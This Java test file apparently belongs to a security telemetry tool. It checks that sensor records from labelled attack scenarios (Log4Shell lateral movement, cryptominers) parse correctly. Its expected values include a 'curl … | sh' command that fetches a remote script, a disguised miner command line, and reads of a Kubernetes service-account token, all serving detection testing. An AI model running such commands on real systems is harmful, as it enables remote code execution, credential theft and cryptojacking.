package io.sightline.formats.telemetry;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.sightline.asset.ContainerId;
import io.sightline.asset.PodKey;
import io.sightline.event.ApiCall;
import io.sightline.event.ContainerContext;
import io.sightline.event.Detection;
import io.sightline.event.Endpoint;
import io.sightline.event.FileAccess;
import io.sightline.event.NetworkFlow;
import io.sightline.event.ProcessExec;
import io.sightline.event.ProcessKey;
import io.sightline.event.ProcessRef;
import io.sightline.event.SkippedRecord;
import io.sightline.finding.Severity;
import java.io.IOException;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The three labelled scenarios under {@code examples/}: every valid record is read and exactly the
 * lines {@code truth.json} lists as malformed are skipped, and the attack's records carry the
 * values read by hand from the files.
 */
class ScenarioTelemetryTest {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String ORDERS_API_CONTAINER =
            "d9eed57efe267af67e89fd7109f4aa642fe0a0461a50b72c4013029cef171a7b";
    private static final PodKey ORDERS_API_POD = new PodKey("payments", "orders-api-mk27884nf2-knqbq");
    private static final String NODE_1_57 = "ip-10-0-1-57.ec2.internal";

    static Stream<Arguments> telemetryFiles() throws IOException {
        List<Arguments> files = new ArrayList<>();
        for (String scenario : List.of("log4shell-lateral", "benign-ci-noise", "docker-host-miner")) {
            truth(scenario)
                    .path("record_counts")
                    .fieldNames()
                    .forEachRemaining(file -> files.add(Arguments.of(scenario, file)));
        }
        return files.stream();
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("telemetryFiles")
    void readsEveryValidRecordAndSkipsExactlyTheMalformedLines(String scenario, String file) throws IOException {
        JsonNode truth = truth(scenario);
        List<Integer> malformed = new ArrayList<>();
        truth.path("malformed").forEach(entry -> {
            if (entry.path("file").asText().equals(file)) {
                malformed.add(entry.path("line").asInt());
            }
        });

        TelemetryFiles.Read read = read(scenario, file);

        int records = truth.path("record_counts").path(file).asInt();
        assertThat(read.summary().accepted()).isEqualTo(records - malformed.size());
        assertThat(read.skippedLines()).containsExactlyInAnyOrderElementsOf(malformed);
        assertThat(read.summary().skipped()).allSatisfy(skipped -> {
            assertThat(skipped.file()).isEqualTo(file);
            assertThat(skipped.reason()).startsWith("not valid JSON: ");
        });
    }

    @Test
    void log4shellJavaSpawnsShellInTheOrdersApiContainer() {
        ProcessExec exec = tetragon().at(307, ProcessExec.class);

        ProcessRef shell = exec.process();
        assertThat(shell.executable()).isEqualTo("/bin/sh");
        assertThat(shell.pid()).isEqualTo(679_083);
        assertThat(shell.host()).isEqualTo(NODE_1_57);
        assertThat(shell.arguments()).isEqualTo("-c \"curl -fsSL http://203.0.113.47:8888/k.sh | sh\"");
        assertThat(shell.startTime()).isEqualTo(Instant.parse("2024-11-14T09:06:13.611Z"));
        assertThat(shell.execId()).contains("aXAtMTAtMC0xLTU3LmVjMi5pbnRlcm5hbDo3ODAxODA2MTEwMDAwMDA6Njc5MDgz");
        assertThat(shell.uid()).hasValue(10_001);
        assertThat(shell.container())
                .contains(new ContainerContext(
                        new ContainerId(Optional.of("containerd"), ORDERS_API_CONTAINER),
                        Optional.of("orders-api"),
                        Optional.of(ORDERS_API_POD),
                        Optional.of("111122223333.dkr.ecr.us-east-1.amazonaws.com/payments/orders-api:1.8.2"),
                        Optional.of("sha256:311f41ffc751601bd6cdd901cc47f293a9efb2d28dba5cef8b5057a6e6fbb540")));
        assertThat(exec.parent()).hasValueSatisfying(java -> {
            assertThat(java.executable()).isEqualTo("/opt/java/openjdk/bin/java");
            assertThat(java.pid()).isEqualTo(61_219);
            assertThat(java.startTime()).isEqualTo(Instant.parse("2024-11-08T09:28:57.799615927Z"));
        });
        assertThat(exec.time()).isEqualTo(Instant.parse("2024-11-14T09:06:13.611Z"));
    }

    @Test
    void log4shellCurlConnectsOutToTheStager() {
        NetworkFlow connect = tetragon().at(309, NetworkFlow.class);

        assertThat(connect.direction()).isEqualTo(NetworkFlow.Direction.OUTBOUND);
        assertThat(connect.local()).isEqualTo(new Endpoint("10.0.1.167", 56_111));
        assertThat(connect.remote()).isEqualTo(new Endpoint("203.0.113.47", 8888));
        assertThat(connect.process().executable()).isEqualTo("/usr/bin/curl");
        assertThat(connect.process().pid()).isEqualTo(679_119);
        assertThat(connect.parent()).map(ProcessRef::pid).contains(679_083L);
    }

    @Test
    void log4shellInventoryServiceAcceptsThePivotFromTheOrdersApiPod() {
        NetworkFlow accept = tetragon().at(577, NetworkFlow.class);

        assertThat(accept.direction()).isEqualTo(NetworkFlow.Direction.INBOUND);
        assertThat(accept.local()).isEqualTo(new Endpoint("10.0.2.37", 8080));
        assertThat(accept.remote()).isEqualTo(new Endpoint("10.0.1.167", 36_334));
        assertThat(accept.process().host()).isEqualTo("ip-10-0-2-143.ec2.internal");
        assertThat(accept.process().container())
                .flatMap(ContainerContext::pod)
                .contains(new PodKey("inventory", "inventory-svc-mcxr5jjvj-ktlmq"));
    }

    @Test
    void log4shellServiceAccountTokenIsRead() {
        FileAccess read = tetragon().at(470, FileAccess.class);

        assertThat(read.mode()).isEqualTo(FileAccess.Mode.READ);
        assertThat(read.path())
                .isEqualTo("/var/run/secrets/kubernetes.io/serviceaccount/..2024_11_14_08_37_18.514439116/token");
        assertThat(read.process().executable()).isEqualTo("/bin/cat");
        assertThat(read.process().pid()).isEqualTo(854_763);
        assertThat(read.parent()).map(ProcessRef::executable).contains("/bin/bash");
    }

    @Test
    void log4shellFalcoMinerAlertNamesTheProcessTetragonSawStart() {
        ProcessExec tetragonExec = tetragon().at(330, ProcessExec.class);
        Detection alert = read("log4shell-lateral", "telemetry/falco.jsonl").at(4, Detection.class);

        assertThat(alert.severity()).isEqualTo(Severity.CRITICAL);
        assertThat(alert.rule()).isEqualTo("Drop and execute new binary in container");
        assertThat(alert.sensor()).isEqualTo("falco");
        assertThat(alert.host()).contains(NODE_1_57);
        assertThat(alert.parentPid()).hasValue(679_120);
        ProcessKey minerKey = new ProcessKey(NODE_1_57, 683_187, 1_731_575_177_031_000_000L);
        assertThat(alert.process()).map(ProcessRef::key).contains(minerKey);
        assertThat(tetragonExec.process().key()).isEqualTo(minerKey);
        assertThat(alert.process()).hasValueSatisfying(miner -> {
            assertThat(miner.executable()).isEqualTo("/tmp/.x/kworkerd");
            assertThat(miner.arguments()).startsWith("-o stratum+tcp://de.minexmr.com:5555 -u 44AFFq5k");
        });
        assertThat(alert.container()).hasValueSatisfying(container -> {
            assertThat(container.id().id()).isEqualTo(ORDERS_API_CONTAINER);
            assertThat(container.pod()).contains(ORDERS_API_POD);
            assertThat(container.imageDigest())
                    .contains("sha256:311f41ffc751601bd6cdd901cc47f293a9efb2d28dba5cef8b5057a6e6fbb540");
        });
        // Its tags carry the tactic TA0003 but no technique id.
        assertThat(alert.techniques()).isEmpty();
    }

    @Test
    void log4shellStolenTokenListsSecretsFromTheOrdersApiPod() {
        ApiCall call = read("log4shell-lateral", "telemetry/k8s-audit.jsonl").at(176, ApiCall.class);

        assertThat(call.user()).isEqualTo("system:serviceaccount:payments:orders-api");
        assertThat(call.fromPod()).contains(ORDERS_API_POD);
        assertThat(call.sourceIps()).containsExactly("10.0.1.167");
        assertThat(call.status()).isEqualTo(200);
        assertThat(call.verb()).isEqualTo("list");
        assertThat(call.resource()).contains("secrets");
        assertThat(call.namespace()).contains("payments");
        assertThat(call.name()).isEmpty();
        assertThat(call.userAgent()).isEqualTo("curl/7.68.0");
        assertThat(call.time()).isEqualTo(Instant.parse("2024-11-14T09:08:52.329421Z"));
    }

    @Test
    void log4shellGuardDutyFindingOnLineTwoNamesTheMiner() {
        TelemetryFiles.Read read = read("log4shell-lateral", "telemetry/guardduty-findings.json");
        Detection finding = read.at(2, Detection.class);

        assertThat(read.summary().format()).isEqualTo("guardduty");
        assertThat(finding.sensor()).isEqualTo("guardduty");
        assertThat(finding.rule()).isEqualTo("Impact:Runtime/CryptoMinerExecuted");
        assertThat(finding.severity()).isEqualTo(Severity.HIGH);
        assertThat(finding.host()).contains(NODE_1_57);
        assertThat(finding.time()).isEqualTo(Instant.parse("2024-11-14T09:06:17.031Z"));
        assertThat(finding.process()).hasValueSatisfying(miner -> {
            assertThat(miner.pid()).isEqualTo(683_187);
            assertThat(miner.key())
                    .isEqualTo(tetragon().at(330, ProcessExec.class).process().key());
            assertThat(miner.execId()).contains("80753e59-48ab-4b9e-8fba-7f541b5f3e43");
            assertThat(miner.executable()).isEqualTo("/tmp/.x/kworkerd");
        });
        assertThat(finding.parentPid()).hasValue(679_120);
        assertThat(finding.container()).hasValueSatisfying(container -> {
            assertThat(container.id().id()).isEqualTo(ORDERS_API_CONTAINER);
            assertThat(container.pod()).contains(ORDERS_API_POD);
        });
    }

    @Test
    void dockerHostGuardDutyFindingNamesThePoolAndTheContainer() {
        Detection finding =
                read("docker-host-miner", "telemetry/guardduty-findings.json").at(2, Detection.class);

        assertThat(finding.rule()).isEqualTo("CryptoCurrency:Runtime/BitcoinTool.B");
        assertThat(finding.remotes()).containsExactly(new Endpoint("198.51.100.23", 3333));
        assertThat(finding.host()).contains("ip-172-31-20-15.ec2.internal");
        assertThat(finding.container())
                .map(container -> container.id().id())
                .contains("bab004ba16eeea4e6fdb887764069d7345a5932824ee393a2cc12afcf23beef5");
        assertThat(finding.parentPid()).hasValue(880_214);
    }

    @Test
    void dockerHostTetragonContainerComesFromTheDockerPrefix() {
        TelemetryFiles.Read read = read("docker-host-miner", "telemetry/tetragon.jsonl");

        NetworkFlow accept = read.at(1, NetworkFlow.class);

        assertThat(accept.process().container()).hasValueSatisfying(container -> {
            assertThat(container.id()).isEqualTo(new ContainerId(Optional.empty(), "e13d04f1f0eda6c9805c7f14243ea29"));
            assertThat(container.pod()).isEmpty();
        });
        assertThat(accept.parent())
                .hasValueSatisfying(shim -> assertThat(shim.container()).isEmpty());
    }

    @Test
    void skippedLinesAreNamedWithTheirReason() {
        List<SkippedRecord> skipped = tetragon().summary().skipped();

        assertThat(skipped).extracting(SkippedRecord::line).containsExactly(293, 743);
        assertThat(skipped.get(0).reason()).startsWith("not valid JSON: Unexpected end-of-input");
        assertThat(skipped.get(1).reason()).startsWith("not valid JSON: Unrecognized token 'time'");
    }

    private static TelemetryFiles.Read tetragon() {
        return read("log4shell-lateral", "telemetry/tetragon.jsonl");
    }

    private static TelemetryFiles.Read read(String scenario, String file) {
        Path path = TelemetryFiles.scenarios().resolve(scenario).resolve(file);
        return TelemetryFiles.read(path, file);
    }

    private static JsonNode truth(String scenario) throws IOException {
        return JSON.readTree(TelemetryFiles.scenarios()
                .resolve(scenario)
                .resolve("truth.json")
                .toFile());
    }
}
